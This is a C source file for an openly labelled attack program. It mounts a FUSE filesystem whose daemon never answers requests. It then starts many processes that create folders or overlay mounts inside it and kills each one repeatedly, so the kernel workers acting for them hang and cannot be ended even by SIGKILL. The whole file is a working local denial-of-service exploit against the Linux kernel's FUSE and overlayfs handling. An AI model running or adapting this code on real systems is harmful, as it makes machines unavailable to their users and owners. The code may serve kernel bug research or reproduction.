/*
 * hung PROCESSES [overlay]: mounts a FUSE whose daemon takes requests and never answers. PROCESSES processes make
 * folders in it, or overlays of it, and are killed a moment later, again and again. The workers that act for them hang,
 * and not even SIGKILL ends those.
 */
#define _GNU_SOURCE
#include "attack.h"

#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define PLACE "/place"

static bool overlays;

static void call(long number, long i)
{
    char name[64];

    snprintf(name, sizeof name, "%s" PLACE "/%ld-%ld", overlays ? "lowerdir=/root:" : "", number, i);
    if (overlays)
        mount("overlay", "/home", "overlay", 0, name);
    else
        mkdir(name, 0755);
}

static void have_calls_made(long number)
{

    for (long i = 0;; i++) {
        pid_t child = fork();
        if (child == 0) {
            call(number, i);
            _exit(0);
        }
        usleep(200000);
        kill(child, SIGKILL);
        waitpid(child, NULL, 0);
    }
}

static void start(void (*run)(long), long argument)
{
    if (fork() == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        run(argument);
        _exit(0);
    }
}

static int device;

static void serve_device(long unused)
{
    (void)unused;
    serve_silent_fuse(device);
}

int main(int argc, char **argv)
{
    long count = argc >= 2 ? atol(argv[1]) : 0;
    char options[128];

    overlays = argc == 3 && strcmp(argv[2], "overlay") == 0;
    device = open("/dev/fuse", O_RDWR);
    snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", device);
    if (device < 0 || mount("hung", PLACE, "fuse", 0, options) < 0)
        fail(PLACE);
    start(serve_device, 0);
    close(device);
    for (long i = 0; i < count; i++)
        start(have_calls_made, i);
    for (;;)
        pause();
}
